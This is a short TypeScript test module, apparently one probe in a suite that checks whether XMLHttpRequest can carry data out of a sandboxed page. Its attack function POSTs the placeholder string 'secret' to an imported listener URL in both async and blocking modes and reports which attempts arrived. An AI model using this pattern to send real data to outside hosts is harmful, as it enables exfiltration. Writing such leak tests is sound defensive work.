import { listener } from "./listener";

/** The older way, blocking and not. */
export async function attack() {
  const results: string[] = [];
  for (const isAsync of [true, false]) {
    const request = new XMLHttpRequest();
    try {
      request.open("POST", `${listener}/xhr`, isAsync);
      request.send("secret");
      await new Promise((done) => setTimeout(done, 300));
      results.push(String(request.status));
    } catch {
      results.push("0");
    }
  }
  console.log(`arrived: ${results.filter((status) => status !== "0").join()}`);
}
